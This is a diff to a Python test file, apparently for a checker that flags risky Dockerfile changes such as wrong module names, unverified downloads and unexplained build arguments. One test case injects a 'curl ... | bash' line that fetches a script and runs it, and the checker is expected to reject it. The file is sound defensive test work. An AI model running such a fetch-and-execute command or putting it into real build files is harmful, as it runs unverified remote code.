@@ -61,7 +61,11 @@ def test_the_rules_find_nothing_in_a_whole_copy_either(project: Path) -> None:
         ('"-m", "container.run"]', '"-m", "container.runs"]', "expected a module of this project"),
         ('"-m", "container.run"]', '"-m", "container"]', "expected a module of this project"),
         ("WORKDIR /build", "ADD https://example.org/a.tar.gz /opt/", "without a checksum"),
-        ("RUN python -m compileall -q .", "RUN curl https://example.org/a | bash", "runs what it downloads"),
+        (
+            " && python -m compileall -q . && chmod -R a+rX .",
+            " && curl https://example.org/a | bash",
+            "runs what it downloads",
+        ),
         ("WORKDIR /build", 'SHELL ["/bin/bash", "-c"]', "changes the shell"),
         ("ARG AUXILIARY_SHA256=", "ARG AUXILIARY_SHA256=\nARG SECRET_SWITCH=", "SECRET_SWITCH is not explained"),
         ("ARG SEN2COR_SHA256\n", "", "uses SEN2COR_SHA256, which is not set there"),
